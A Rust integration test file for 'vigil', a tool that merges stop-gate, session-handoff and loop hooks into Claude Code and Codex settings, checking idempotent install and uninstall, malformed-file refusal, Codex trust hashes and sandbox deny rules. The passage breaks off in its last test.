//! settings-merge, install.sh and the plugin (SPEC §8), against real-world-shaped settings.

use std::os::unix::fs::{FileTypeExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::{Value, json};

use crate::support::*;

const GOOD: [&str; 3] = [
    "claude-user-hooks.json",
    "claude-four-spaces.json",
    "codex-hooks.json",
];

/// A project with one fixture as its settings file; returns (dir, settings path, codex?).
fn project_with(fixture_name: &str) -> (tempfile::TempDir, PathBuf, bool) {
    let dir = tempfile::tempdir().unwrap();
    let codex = fixture_name.starts_with("codex");
    let path = if codex {
        dir.path().join(".codex/hooks.json")
    } else {
        dir.path().join(".claude/settings.local.json")
    };
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::copy(fixture(&format!("settings/{fixture_name}")), &path).unwrap();
    (dir, path, codex)
}

fn merge(action: &str, path: &Path, codex: bool, extra: &[&str]) -> Output {
    let mut cmd = settings_merge();
    cmd.arg(action).arg("--settings").arg(path).args(extra);
    if codex {
        cmd.arg("--codex");
    }
    if action == "install" && !extra.contains(&"--shared") {
        cmd.arg("--bin-dir").arg(bin_dir());
    }
    cmd.output().unwrap()
}

fn user_groups(value: &Value) -> Vec<Value> {
    let mut groups = Vec::new();
    for (_, list) in value["hooks"].as_object().unwrap() {
        for group in list.as_array().unwrap() {
            if !vigil::settings::BINARIES
                .iter()
                .any(|b| group.to_string().contains(b))
            {
                groups.push(group.clone());
            }
        }
    }
    groups
}

#[test]
fn install_twice_is_byte_identical_and_keeps_the_users_hooks() {
    for name in GOOD {
        let (_dir, path, codex) = project_with(name);
        let original = json_of(&path);
        assert!(
            merge("install", &path, codex, &["--run", "cargo test"])
                .status
                .success(),
            "{name}"
        );
        let once = std::fs::read(&path).unwrap();
        let installed = json_of(&path);
        assert_eq!(
            user_groups(&installed),
            user_groups(&original),
            "{name}: the user's hooks"
        );
        for (key, value) in original.as_object().unwrap() {
            if key != "hooks" {
                assert_eq!(&installed[key], value, "{name}: {key}");
            }
        }
        let keys: Vec<&String> = installed.as_object().unwrap().keys().collect();
        let original_keys: Vec<&String> = original.as_object().unwrap().keys().collect();
        assert_eq!(keys, original_keys, "{name}: key order");
        assert!(
            once.ends_with(b"}\n") && String::from_utf8_lossy(&once).contains("\n  \""),
            "{name}: 2-space indentation, final newline"
        );
        assert!(
            merge("install", &path, codex, &["--run", "cargo test"])
                .status
                .success()
        );
        assert_eq!(
            std::fs::read(&path).unwrap(),
            once,
            "{name}: a second install changes nothing"
        );
    }
}

#[test]
fn large_integers_and_non_ascii_survive_byte_for_byte() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(
        text.contains("12345678901234567890123"),
        "a large integer was rounded"
    );
    assert!(text.contains("2.50"), "a number was rewritten");
    assert!(text.contains("Grüße, 世界 ✓"));
}

#[test]
fn install_then_uninstall_restores_the_original_byte_for_byte() {
    for name in GOOD {
        let (dir, path, codex) = project_with(name);
        let original = std::fs::read(&path).unwrap();
        assert!(merge("install", &path, codex, &[]).status.success());
        assert!(
            path.with_file_name(format!(
                "{}.vigil-backup",
                path.file_name().unwrap().to_string_lossy()
            ))
            .exists()
        );
        let record: Value =
            serde_json::from_slice(&std::fs::read(install_record_of(dir.path())).unwrap()).unwrap();
        assert_eq!(record["schema"], "vigil.installed/v1");
        assert!(
            !dir.path().join(".vigil").exists(),
            "the record is in the protected state, not the project"
        );
        assert!(merge("uninstall", &path, codex, &[]).status.success());
        assert_eq!(std::fs::read(&path).unwrap(), original, "{name}");
    }
}

#[test]
fn install_into_a_missing_file_then_uninstall_removes_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(".claude/settings.local.json");
    assert!(merge("install", &path, false, &[]).status.success());
    assert!(json_of(&path)["hooks"]["Stop"].is_array());
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert!(!path.exists());
}

#[test]
fn uninstall_after_the_user_changed_the_file_removes_only_vigils_entries() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    let original = json_of(&path);
    assert!(merge("install", &path, false, &[]).status.success());
    let mut edited = json_of(&path);
    edited["model"] = json!("opus");
    std::fs::write(&path, serde_json::to_vec_pretty(&edited).unwrap()).unwrap();
    assert!(merge("uninstall", &path, false, &[]).status.success());
    let after = json_of(&path);
    assert_eq!(after["model"], "opus", "the user's later change is kept");
    assert_eq!(
        after["hooks"], original["hooks"],
        "vigil's entries, and only they, are gone"
    );
}

#[test]
fn a_different_run_command_replaces_vigils_stop_entry() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(
        merge("install", &path, false, &["--run", "cargo test"])
            .status
            .success()
    );
    assert!(
        merge("install", &path, false, &["--run", "make check"])
            .status
            .success()
    );
    let stops = json_of(&path)["hooks"]["Stop"].to_string();
    assert_eq!(stops.matches("stop-gate").count(), 1, "{stops}");
    assert!(stops.contains("make check"));
}

#[test]
fn malformed_files_are_refused_and_left_unchanged() {
    let cases = [
        ("bad-comment.json", Some("2:")),
        ("bad-trailing-comma.json", Some("3:")),
        ("bad-truncated.json", Some("1:")),
        ("bad-bom.json", None),
        ("bad-root-array.json", None),
        ("bad-root-null.json", None),
        ("bad-root-number.json", None),
        ("bad-hooks-string.json", Some("1:")),
        ("bad-event-object.json", Some("1:")),
    ];
    for (name, position) in cases {
        let (dir, path, _) = project_with(name);
        let before = std::fs::read(&path).unwrap();
        let out = merge("install", &path, false, &[]);
        assert_eq!(out.status.code(), Some(2), "{name}");
        let stderr = assert_one_line_error(&out, "settings-merge");
        assert!(stderr.contains("nothing was changed"), "{name}: {stderr}");
        if let Some(position) = position {
            assert!(
                stderr.contains(&format!("settings.local.json:{position}")),
                "{name}: line and column: {stderr}"
            );
        }
        assert_eq!(std::fs::read(&path).unwrap(), before, "{name}");
        assert!(
            !dir.path().join(".vigil").exists(),
            "{name}: nothing recorded"
        );
        assert_eq!(
            tree(&dir.path().join(".claude")).len(),
            1 + usize::from(
                tree(&dir.path().join(".claude"))
                    .iter()
                    .any(|f| f.ends_with(".vigil-lock"))
            ),
            "{name}: no backup"
        );
    }
}

#[test]
fn eight_installers_at_once_leave_each_entry_once() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let original = std::fs::read(&path).unwrap();
    // Installs, reinstalls with another check and uninstalls, all at once, on this file and
    // on a second settings file of the same project (which shares the install record).
    let local = dir.path().join(".claude/settings.json");
    std::fs::copy(&path, &local).unwrap();
    let children: Vec<_> = (0..8)
        .map(|i| {
            let mut cmd =
                std::process::Command::new(assert_cmd::cargo::cargo_bin!("settings-merge"));
            cmd.env("VIGIL_STATE_HOME", state_home());
            match i % 4 {
                0 | 1 => cmd.arg("install"),
                2 => cmd.arg("install").args(["--run", "make test"]),
                _ => cmd.arg("uninstall"),
            };
            cmd.arg("--settings")
                .arg(if i % 2 == 0 { &path } else { &local });
            if i % 4 != 3 {
                cmd.arg("--bin-dir").arg(bin_dir());
            }
            cmd.stdout(std::process::Stdio::null()).spawn().unwrap()
        })
        .collect();
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    for file in [&path, &local] {
        assert!(merge("install", file, false, &[]).status.success());
        let text = std::fs::read_to_string(file).unwrap();
        // A re-install keeps the check an earlier one added, so the Stop's stop-gate may
        // carry `--run`: count the binary, not the end of its command.
        for (binary, times) in [("/stop-gate", 2), ("session-start-loader", 1)] {
            assert_eq!(
                text.matches(binary).count(),
                times,
                "{binary} (Stop and UserPromptSubmit run stop-gate): {text}"
            );
        }
        assert_eq!(
            text.matches("session-end-handoff").count(),
            3,
            "SessionEnd, PreCompact and StopFailure"
        );
        assert_eq!(
            std::fs::read(backup_of(file)).unwrap(),
            original,
            "the backup is the user's file, never one with vigil in it"
        );
    }
    // Both files' records survived the interleaving: each uninstall restores its original.
    for file in [&path, &local] {
        assert!(merge("uninstall", file, false, &[]).status.success());
        assert_eq!(std::fs::read(file).unwrap(), original);
    }
}

#[test]
fn permissions_are_kept() {
    for mode in [0o600, 0o644] {
        let (_dir, path, _) = project_with("claude-user-hooks.json");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
        assert!(merge("install", &path, false, &[]).status.success());
        assert_eq!(
            std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
            mode
        );
    }
}

#[test]
fn a_symlinked_settings_file_stays_a_symlink() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let real = dir.path().join("dotfiles-settings.json");
    std::fs::rename(&path, &real).unwrap();
    std::os::unix::fs::symlink(&real, &path).unwrap();
    let original = std::fs::read(&real).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    assert!(
        std::fs::symlink_metadata(&path)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(
        std::fs::read_to_string(&real)
            .unwrap()
            .contains("stop-gate")
    );
    assert!(merge("uninstall", &path, false, &[]).status.success());
    assert!(
        std::fs::symlink_metadata(&path)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(std::fs::read(&real).unwrap(), original);
}

#[test]
fn dry_run_prints_the_diff_and_changes_nothing() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let before = std::fs::read(&path).unwrap();
    let out = merge("install", &path, false, &["--dry-run"]);
    assert!(out.status.success());
    let diff = stdout_of(&out);
    assert!(
        diff.starts_with("--- ")
            && diff.contains("+            \"command\": ")
            && diff.contains("stop-gate"),
        "{diff}"
    );
    assert_eq!(std::fs::read(&path).unwrap(), before);
    assert!(!dir.path().join(".vigil").exists());
}

#[test]
fn check_finds_installed_binaries_from_a_bare_environment_and_fails_for_a_missing_one() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(merge("install", &path, false, &[]).status.success());
    let out = merge("check", &path, false, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout_of(&out));
    assert!(stdout_of(&out).contains("[ok] Stop: `"));
    // Point the entries at a directory that has no binaries.
    let (_dir2, path2, _) = project_with("claude-user-hooks.json");
    let out = settings_merge()
        .args(["install", "--bin-dir", "/nonexistent/bin", "--settings"])
        .arg(&path2)
        .output()
        .unwrap();
    assert!(out.status.success());
    let out = merge("check", &path2, false, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout_of(&out).contains("[fail] Stop: `/nonexistent/bin/stop-gate"),
        "{}",
        stdout_of(&out)
    );
}

#[test]
fn check_reports_a_missing_entry_and_a_duplicate() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    let out = merge("check", &path, false, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout_of(&out).contains("[fail] Stop does not run stop-gate"));
    assert!(merge("install", &path, false, &[]).status.success());
    let mut value = json_of(&path);
    let stop = value["hooks"]["Stop"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    value["hooks"]["Stop"].as_array_mut().unwrap().push(stop);
    std::fs::write(&path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    assert!(
        stdout_of(&merge("check", &path, false, &[]))
            .contains("[warn] Stop runs stop-gate 2 times")
    );
}

#[test]
fn check_says_codex_will_skip_hooks_it_has_not_trusted() {
    let (dir, path, _) = project_with("codex-hooks.json");
    assert!(merge("install", &path, true, &[]).status.success());
    let config = dir.path().join("config.toml");
    std::fs::write(&config, "model = \"gpt-5\"\n").unwrap();
    let out = merge(
        "check",
        &path,
        true,
        &["--codex-config", config.to_str().unwrap()],
    );
    assert!(
        stdout_of(&out).contains("[warn] Codex will skip ")
            && stdout_of(&out).contains(":stop:1:0 until you trust it"),
        "{}",
        stdout_of(&out)
    );
    // The project itself must be trusted too, or Codex never reads its .codex/.
    assert!(
        stdout_of(&out).contains("only for a trusted project"),
        "{}",
        stdout_of(&out)
    );
    let project = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::write(
        &config,
        format!(
            "model = \"gpt-5\"\n[projects.\"{}\"]\ntrust_level = \"trusted\"\n",
            project.display()
        ),
    )
    .unwrap();
    let out = merge(
        "check",
        &path,
        true,
        &["--codex-config", config.to_str().unwrap()],
    );
    assert!(
        stdout_of(&out).contains("[ok] Codex trusts the project"),
        "{}",
        stdout_of(&out)
    );
}

#[test]
fn shared_settings_find_the_binaries_through_path_or_say_install_sh_is_needed() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let out = merge("install", &path, false, &["--shared"]);
    assert!(out.status.success());
    let stop = json_of(&path)["hooks"]["Stop"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        !stop.contains(&bin_dir().display().to_string()),
        "no machine's own path in a shared file: {stop}"
    );
    let sample = std::fs::read(fixture("samples/claude-stop.json")).unwrap();
    // No vigil anywhere: one line, and the stop goes on.
    let home = tempfile::tempdir().unwrap();
    let none = std::process::Command::new("sh")
        .arg("-c")
        .arg(&stop)
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", "/usr/bin:/bin")
        .current_dir(dir.path())
        .output()
        .unwrap();
    let said: Value = serde_json::from_slice(&none.stdout).unwrap();
    assert!(
        said["systemMessage"]
            .as_str()
            .unwrap()
            .contains("./install.sh")
    );
    // Installed in ~/.local/bin: found there.
    let local = home.path().join(".local/bin");
    std::fs::create_dir_all(&local).unwrap();
    std::fs::copy(bin_dir().join("stop-gate"), local.join("stop-gate")).unwrap();
    let mut child = std::process::Command::new("sh")
        .arg("-c")
        .arg(&stop)
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", "/usr/bin:/bin")
        .current_dir(dir.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(&sample).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success() && out.stdout.is_empty(),
        "allowed: {}",
        String::from_utf8_lossy(&out.stdout)
    );
}

// --- install.sh end to end --------------------------------------------------------------------

fn install_sh(home: &Path, args: &[&str], path_env: &str) -> Output {
    std::process::Command::new("bash")
        .arg(repo_path("install.sh"))
        .args(args)
        .env("HOME", home)
        .env("PATH", path_env)
        .env("VIGIL_BUILT_DIR", bin_dir())
        .output()
        .unwrap()
}

/// install.sh run in `dir` as a user runs it there, with the binaries already built.
fn install_sh_in(home: &Path, dir: &Path, args: &[&str]) -> Output {
    std::process::Command::new("bash")
        .arg(repo_path("install.sh"))
        .args(args)
        .current_dir(dir)
        .env("HOME", home)
        .env("PATH", "/usr/bin:/bin")
        .env("VIGIL_BUILT_DIR", bin_dir())
        .env("VIGIL_STATE_HOME", state_home())
        .output()
        .unwrap()
}

/// Runs a hook command exactly as written in a settings file, with a sample payload.
fn fire(command: &str, project: &Path, payload: &Value) -> Output {
    let mut cmd = std::process::Command::new("sh");
    cmd.arg("-c")
        .arg(command)
        .current_dir(project)
        .env("VIGIL_STATE_HOME", state_home())
        .env_remove("CLAUDE_PROJECT_DIR");
    output_with_stdin(cmd, payload.to_string().as_bytes())
}

#[test]
fn install_sh_leaves_a_working_setup_whose_hooks_fire_for_real() {
    let home = tempfile::tempdir().unwrap();
    let project = Project::git();
    let path_env = "/usr/bin:/bin";
    let prefix = home.path().join(".local");
    let out = install_sh(
        home.path(),
        &[
            "--project",
            project.path().to_str().unwrap(),
            "--run",
            "test -f tests-pass",
        ],
        path_env,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(prefix.join("bin/stop-gate").is_file());
    assert!(
        project
            .path()
            .join(".claude/commands/vigil-loop.md")
            .is_file()
    );
    // The human's /vigil-loop starts the loop through the UserPromptSubmit hook, exactly as
    // installed; the slash command, as copied, names stop-gate by absolute path, so it shows
    // the loop even though ~/.local/bin is not on this PATH.
    let settings = json_of(&project.path().join(".claude/settings.local.json"));
    let prompt_hook = settings["hooks"]["UserPromptSubmit"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    let prompt = json!({"session_id": "5e55a0e1-0000-4000-8000-00000000c0de",
        "hook_event_name": "UserPromptSubmit", "cwd": project.path(),
        "prompt": "/vigil-loop Fix the bug --max-iterations 3 --completion-promise DONE"});
    let said = fire(&prompt_hook, project.path(), &prompt);
    assert!(
        String::from_utf8_lossy(&said.stdout).contains("vigil loop started"),
        "{}",
        String::from_utf8_lossy(&said.stdout)
    );
    let loop_md =
        std::fs::read_to_string(project.path().join(".claude/commands/vigil-loop.md")).unwrap();
    let stop_gate = prefix.join("bin/stop-gate").display().to_string();
    assert!(
        loop_md.contains(&format!("{stop_gate} loop status")),
        "{loop_md}"
    );
    let block = loop_md
        .split("```!\n")
        .nth(1)
        .unwrap()
        .split("\n```")
        .next()
        .unwrap()
        .replace(
            "$ARGUMENTS",
            "Fix the bug --max-iterations 3 --completion-promise DONE",
        );
    let shown = std::process::Command::new("bash")
        .arg("-c")
        .arg(&block)
        .current_dir(project.path())
        .env("PATH", path_env)
        .env("VIGIL_STATE_HOME", state_home())
        .env("CLAUDE_SESSION_ID", "5e55a0e1-0000-4000-8000-00000000c0de")
        .env_remove("CLAUDE_PROJECT_DIR")
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&shown.stdout).contains("running, pass 1/3"),
        "{}",
        String::from_utf8_lossy(&shown.stderr)
    );
    let cancelled = cancel_loop(&prefix, project.path(), path_env);
    assert!(cancelled.contains("cancel"), "{cancelled}");
    let stop = settings["hooks"]["Stop"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    let mut payload: Value =
        serde_json::from_slice(&std::fs::read(fixture("samples/claude-stop.json")).unwrap())
            .unwrap();
    payload["cwd"] = json!(project.path());
    // The check fails: the Stop hook, exactly as written, blocks.
    let blocked = fire(&stop, project.path(), &payload);
    let decision: Value = serde_json::from_slice(&blocked.stdout).unwrap();
    assert_eq!(decision["decision"], "block", "{decision}");
    assert!(
        decision["reason"]
            .as_str()
            .unwrap()
            .contains("test -f tests-pass")
    );
    // The check passes: it allows.
    std::fs::write(project.path().join("tests-pass"), "").unwrap();
    let allowed = fire(&stop, project.path(), &payload);
    assert!(
        allowed.status.success() && allowed.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&allowed.stdout)
    );
    // SessionEnd then SessionStart hand over.
    let end = settings["hooks"]["SessionEnd"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    let start = settings["hooks"]["SessionStart"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    let mut end_payload: Value =
        serde_json::from_slice(&std::fs::read(fixture("samples/claude-session-end.json")).unwrap())
            .unwrap();
    end_payload["cwd"] = json!(project.path());
    end_payload["transcript_path"] = Value::Null;
    assert!(fire(&end, project.path(), &end_payload).status.success());
    let mut start_payload: Value = serde_json::from_slice(
        &std::fs::read(fixture("samples/claude-session-start.json")).unwrap(),
    )
    .unwrap();
    start_payload["cwd"] = json!(project.path());
    let context: Value =
        serde_json::from_slice(&fire(&start, project.path(), &start_payload).stdout).unwrap();
    assert!(
        context["hookSpecificOutput"]["additionalContext"]
            .as_str()
            .unwrap()
            .contains("[final] session 00893aaf")
    );
    // --check passes; --uninstall takes it all out again.
    let check = install_sh(
        home.path(),
        &["--project", project.path().to_str().unwrap(), "--check"],
        path_env,
    );
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stdout)
    );
    let uninstall = install_sh(
        home.path(),
        &["--project", project.path().to_str().unwrap(), "--uninstall"],
        path_env,
    );
    assert!(
        uninstall.status.success(),
        "{}",
        String::from_utf8_lossy(&uninstall.stderr)
    );
    assert!(
        !project.path().join(".claude/settings.local.json").exists(),
        "install created it, uninstall removes it"
    );
    assert!(
        !project.path().join(".claude/commands").exists(),
        "the slash commands install.sh copied go too"
    );
}

/// Cancels the loop the copied slash command started, through the installed stop-gate.
fn cancel_loop(prefix: &Path, project: &Path, path_env: &str) -> String {
    let out = std::process::Command::new(prefix.join("bin/stop-gate"))
        .args([
            "loop",
            "cancel",
            "--session",
            "5e55a0e1-0000-4000-8000-00000000c0de",
        ])
        .current_dir(project)
        .env("PATH", path_env)
        .env("VIGIL_STATE_HOME", state_home())
        .env_remove("CLAUDE_PROJECT_DIR")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr)
}

#[test]
fn install_sh_user_and_codex_targets() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let out = install_sh(home.path(), &["--user"], "/usr/bin:/bin");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(json_of(&home.path().join(".claude/settings.json"))["hooks"]["SessionEnd"].is_array());
    let records: Vec<_> = std::fs::read_dir(home.path().join(".local/state/vigil/projects"))
        .unwrap()
        .flatten()
        .filter(|dir| dir.path().join("installed.json").is_file())
        .collect();
    assert_eq!(
        records.len(),
        1,
        "the user's record lives in the state home"
    );
    assert!(!home.path().join(".vigil").exists(), "and not in ~/.vigil");
    let out = install_sh(
        home.path(),
        &["--codex", "--project", project.path().to_str().unwrap()],
        "/usr/bin:/bin",
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let codex = json_of(&project.path().join(".codex/hooks.json"));
    assert_eq!(
        codex["hooks"]
            .as_object()
            .unwrap()
            .keys()
            .collect::<Vec<_>>(),
        vec![
            "Stop",
            "SessionStart",
            "SessionEnd",
            "PreCompact",
            "UserPromptSubmit"
        ],
        "SPEC §8: every event of Claude Code's set that Codex 0.171.0 has"
    );
}

#[test]
fn install_sh_protect_wires_the_sandbox_and_uninstall_takes_it_back() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let dir = project.path().to_str().unwrap();
    let run = |args: &[&str]| {
        let mut cmd = std::process::Command::new("bash");
        cmd.arg(repo_path("install.sh"))
            .args(args)
            .env("HOME", home.path())
            .env("PATH", "/usr/bin:/bin")
            .env("VIGIL_BUILT_DIR", bin_dir())
            .env_remove("VIGIL_STATE_HOME")
            .env_remove("XDG_STATE_HOME");
        cmd.output().unwrap()
    };
    let out = run(&["--project", dir, "--protect"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let settings = json_of(&project.path().join(".claude/settings.local.json"));
    assert_eq!(settings["sandbox"]["enabled"], true);
    let deny = settings["permissions"]["deny"].to_string();
    assert!(deny.contains("Edit(~/.local/state/vigil/**)"), "{deny}");
    assert!(
        deny.contains("Edit(~/.local/bin/**)"),
        "the binaries the hooks run: {deny}"
    );
    let check = run(&["--project", dir, "--check"]);
    assert!(
        stdout_of(&check).contains("[ok] vigil's protected state"),
        "{}",
        stdout_of(&check)
    );
    let out = run(&["--project", dir, "--protect", "--uninstall"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--protect"));
    assert!(run(&["--project", dir, "--uninstall"]).status.success());
    assert!(
        !project.path().join(".claude/settings.local.json").exists(),
        "the file install.sh created is gone again"
    );
}

#[test]
fn install_sh_dry_run_changes_nothing() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let out = install_sh(
        home.path(),
        &["--project", project.path().to_str().unwrap(), "--dry-run"],
        "/usr/bin:/bin",
    );
    assert!(out.status.success());
    assert!(stdout_of(&out).contains("+  \"hooks\": {"));
    assert!(!project.path().join(".claude").exists() && !home.path().join(".local").exists());
}

/// The project is the git top level (SPEC §2, issue 29): install.sh run in a subdirectory
/// wires the top, where the engines find the settings, and says so; outside git it asks for
/// --project, before it builds or writes anything.
#[test]
fn install_sh_in_a_subdirectory_wires_the_git_top_level_and_says_so() {
    let home = tempfile::tempdir().unwrap();
    let project = Project::git();
    let sub = project.path().join("src/app");
    std::fs::create_dir_all(&sub).unwrap();
    let out = install_sh_in(home.path(), &sub, &["--run", "true"]);
    assert!(out.status.success(), "{}", said(&out));
    let top = std::fs::canonicalize(project.path()).unwrap();
    assert!(
        said(&out).contains(&format!(
            "is inside the git repository {}; working on its top level",
            top.display()
        )),
        "{}",
        said(&out)
    );
    assert!(project.path().join(".claude/settings.local.json").is_file());
    assert!(!sub.join(".claude").exists());
    assert!(install_record_of(project.path()).is_file());

    let outside = tempfile::tempdir().unwrap();
    let out = install_sh_in(home.path(), outside.path(), &[]);
    assert_eq!(out.status.code(), Some(2), "{}", said(&out));
    assert!(
        said(&out).contains("is not inside a git repository")
            && said(&out).contains("--project DIR"),
        "{}",
        said(&out)
    );
    assert!(!outside.path().join(".claude").exists());

    // --check and --uninstall outside git work on the directory itself (SPEC §2).
    let out = install_sh_in(home.path(), outside.path(), &["--check"]);
    assert_ne!(out.status.code(), Some(2), "{}", said(&out));
}

/// Review of issue 29: a subdirectory an earlier vigil wired (install.sh then wired the
/// current directory) is uninstalled where it is, not redirected to the top.
#[test]
fn install_sh_uninstall_in_a_subdirectory_wired_before_takes_it_out_there() {
    let home = tempfile::tempdir().unwrap();
    let project = Project::git();
    let sub = project.path().join("pkg");
    // Wired as an earlier install.sh did: the subdirectory named, as the current one was.
    std::fs::create_dir_all(&sub).unwrap();
    let out = install_sh_in(home.path(), &sub, &["--project", sub.to_str().unwrap()]);
    assert!(out.status.success(), "{}", said(&out));
    let settings = sub.join(".claude/settings.local.json");
    assert!(
        std::fs::read_to_string(&settings)
            .unwrap()
            .contains("stop-gate")
    );
    let out = install_sh_in(home.path(), &sub, &["--uninstall"]);
    assert!(out.status.success(), "{}", said(&out));
    assert!(
        !settings.exists()
            || !std::fs::read_to_string(&settings)
                .unwrap()
                .contains("stop-gate"),
        "the hooks stay: {}",
        said(&out)
    );
}

#[test]
fn install_sh_stops_clearly_without_cargo() {
    let home = tempfile::tempdir().unwrap();
    let project = Project::git();
    let out = std::process::Command::new("bash")
        .arg(repo_path("install.sh"))
        .current_dir(project.path())
        .env("HOME", home.path())
        .env("PATH", "/usr/bin:/bin")
        .env_remove("VIGIL_BUILT_DIR")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cargo is not installed"));
}

#[test]
fn check_warns_about_a_stale_binary() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let bin = dir.path().join("old-bin");
    std::fs::create_dir_all(&bin).unwrap();
    for name in ["stop-gate", "session-start-loader", "session-end-handoff"] {
        let script = bin.join(name);
        std::fs::write(
            &script,
            format!("#!/bin/sh\n[ \"$1\" = --version ] && echo '{name} 0.0.1'\nexit 0\n"),
        )
        .unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let out = settings_merge()
        .args(["install", "--bin-dir"])
        .arg(&bin)
        .arg("--settings")
        .arg(&path)
        .output()
        .unwrap();
    assert!(out.status.success());
    let report = stdout_of(&merge("check", &path, false, &[]));
    assert!(
        report.contains("[warn]") && report.contains("stop-gate is version 0.0.1"),
        "{report}"
    );
}

#[test]
fn every_binary_reports_its_version() {
    for name in [
        "promise-matcher",
        "stop-gate",
        "marker-writer",
        "session-end-handoff",
        "session-start-loader",
        "settings-merge",
    ] {
        let out = std::process::Command::new(bin_dir().join(name))
            .arg("--version")
            .output()
            .unwrap();
        assert_eq!(
            stdout_of(&out),
            format!("{name} {}\n", env!("CARGO_PKG_VERSION")),
            "{name}"
        );
    }
}

#[test]
fn codex_trust_is_written_checked_and_removed_without_touching_the_rest_of_config_toml() {
    let (dir, path, _) = project_with("codex-hooks.json");
    let config = dir.path().join("config.toml");
    let original =
        "# mine\nmodel = \"gpt-5\"\n\n[projects.\"/somewhere\"]\ntrust_level = \"trusted\"\n";
    std::fs::write(&config, original).unwrap();
    let config_flag = ["--codex-config", config.to_str().unwrap()];
    let out = merge(
        "install",
        &path,
        true,
        &[&config_flag[..], &["--trust"]].concat(),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&config).unwrap();
    assert!(
        text.starts_with(original),
        "the user's config is kept: {text}"
    );
    assert!(
        text.contains("[hooks.state.\"") && text.contains("trusted_hash = \"sha256:"),
        "{text}"
    );
    let report = stdout_of(&merge("check", &path, true, &config_flag));
    assert!(
        report.contains("[ok] Codex trusts") && !report.contains("Codex will skip"),
        "{report}"
    );
    // A hook changed since it was trusted is named.
    let mut hooks = json_of(&path);
    let stop = hooks["hooks"]["Stop"]
        .as_array_mut()
        .unwrap()
        .last_mut()
        .unwrap();
    stop["hooks"][0]["timeout"] = json!(5);
    std::fs::write(&path, serde_json::to_vec_pretty(&hooks).unwrap()).unwrap();
    assert!(
        stdout_of(&merge("check", &path, true, &config_flag))
            .contains("changed since it was trusted")
    );
    // Uninstall takes vigil's trust entries out again, and only those.
    assert!(merge("uninstall", &path, true, &[]).status.success());
    assert_eq!(std::fs::read_to_string(&config).unwrap(), original);
}

#[test]
fn the_trust_hash_is_taken_over_codexs_normalized_identity() {
    // The handler as settings-merge writes it for Codex's Stop, hashed the way Codex does:
    // sorted keys, no whitespace, the timeout explicit, async present.
    let handler = json!({"type": "command", "command": "/opt/vigil/bin/stop-gate"});
    let canonical = vigil::codex::canonical_identity("Stop", None, &handler);
    assert_eq!(
        canonical,
        r#"{"event_name":"stop","hooks":[{"async":false,"command":"/opt/vigil/bin/stop-gate","timeout":600,"type":"command"}]}"#
    );
    assert_eq!(
        vigil::codex::trust_hash("Stop", None, &handler),
        format!(
            "sha256:{}",
            vigil::subject::sha256_hex(canonical.as_bytes())
        )
    );
}

#[test]
fn trust_is_refused_for_claude_settings() {
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    let out = merge("install", &path, false, &["--trust"]);
